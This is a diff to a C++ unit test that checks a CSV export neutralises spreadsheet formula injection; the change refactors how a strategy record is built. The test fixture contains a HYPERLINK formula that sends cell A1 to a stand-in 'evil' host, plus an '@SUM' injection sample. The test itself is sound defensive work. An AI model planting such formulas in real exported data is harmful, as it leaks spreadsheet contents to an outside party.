@@ -145,9 +145,9 @@ void TestTranscript::csvNeutralisesFormulas()
     session::LedgerEvent e;
     e.request.id = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
     e.status = session::EventStatus::Released;
-    e.strategyRecord.emplace();
-    e.strategyRecord->labels = {"@SUM(1+1)", "south"};
-    e.strategyRecord->values = {1.0, 2.0};
+    e.record = session::StrategyRecord{};
+    e.strategyRecord()->labels = {"@SUM(1+1)", "south"};
+    e.strategyRecord()->values = {1.0, 2.0};
     const auto csv = io::writeStrategyRecordCsv(e);
     QVERIFY(csv.ok());
     QVERIFY2(csv->find("\r\n\"'=HYPERLINK(") != std::string::npos, csv->c_str());
